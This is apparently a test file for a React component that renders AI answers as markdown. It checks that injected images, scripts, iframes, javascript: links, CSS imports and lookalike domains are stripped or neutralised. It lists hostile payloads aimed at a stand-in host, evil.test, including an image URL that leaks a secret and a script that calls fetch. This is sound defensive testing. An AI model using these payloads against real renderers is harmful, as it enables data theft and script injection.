import assert from "node:assert/strict";
import { test } from "node:test";
import { renderToStaticMarkup } from "react-dom/server";
import { Answer } from "./answer.tsx";

const html = (text: string, known: number[] = []) =>
  renderToStaticMarkup(<Answer text={text} known={known} onCite={() => {}} />);

const HOSTILE = [
  "![x](https://evil.test/p.png?d=SECRET)",
  "![x][1]\n\n[1]: https://evil.test/p.png",
  '<img src="https://evil.test/a.png">',
  "<script>fetch('https://evil.test')</script>",
  '<iframe src="https://evil.test"></iframe>',
  '<svg onload="alert(1)"><image href="https://evil.test/a.svg"/></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>@import url("https://evil.test/a.css")</style>',
  '<link rel="stylesheet" href="https://evil.test">',
  '<video poster="https://evil.test/p.png" src="https://evil.test/v"></video>',
  '<object data="https://evil.test"></object>',
  '<div style="background:url(https://evil.test)">x</div>',
  '<picture><source srcset="https://evil.test/a.png"></picture>',
  '<form action="https://evil.test"><button>x</button></form>',
];

test("no element that can load or run anything comes out of an answer", () => {
  for (const text of HOSTILE) {
    const made = html(text);
    assert.doesNotMatch(
      made,
      /<(img|script|iframe|svg|style|link|video|object|picture|source|form|input|image)\b/,
      text,
    );
    assert.doesNotMatch(made, /\s(on\w+|style|src|srcset|poster)=/, text);
  }
});

test("links go to the web and to mail only, and say where before they are followed", () => {
  for (const href of ["javascript:alert(1)", "data:text/html,x", "vbscript:x", "file:///etc/passwd", "/api/runs", "//evil.test", "blob:x"]) {
    assert.doesNotMatch(html(`[x](${href})`), /<a\b/, href);
  }
  const link = html("[docs](https://Example.org:8443/a)");
  assert.match(link, /href="https:\/\/example.org:8443\/a"/);
  assert.match(link, /rel="noreferrer noopener nofollow"/);
  assert.match(link, /↗ example\.org:8443/);
});

test("a link's host is shown in its ASCII form, so a lookalike is seen", () => {
  assert.match(html("[bank](https://аpple.com)"), /↗ xn--pple-43d\.com/);
});

test("an image becomes a button that names its host", () => {
  assert.match(html("![secret](https://evil.test/p.png)"), /<button[^>]*image-chip[^>]*>.*evil\.test/);
});

test("citations become buttons only for sources that exist, and never inside code", () => {
  const made = html("a [1], b [1, 2], c [9], `[1]`, [x](https://a.test/[1])", [1, 2]);
  assert.equal(made.match(/class="citation"/g)?.length, 3);
  assert.match(made, /c \[9\]/);
  assert.match(made, /<code>\[1\]<\/code>/);
});

test("a reference that would turn [1] into a link is still the citation", () => {
  const made = html("It is so [1].\n\n[1]: https://evil.test", [1]);
  assert.match(made, /class="citation"/);
  assert.doesNotMatch(made, /evil/);
});

test("tables, lists, code and emphasis are kept", () => {
  const made = html("| a | b |\n|---|---:|\n| 1 | 2 |\n\n- [x] done\n\n**b**\n\n```py\nx\n```");
  for (const part of ["<table>", "<li", "<strong>b</strong>", "<pre", "☑"]) assert.ok(made.includes(part), part);
});
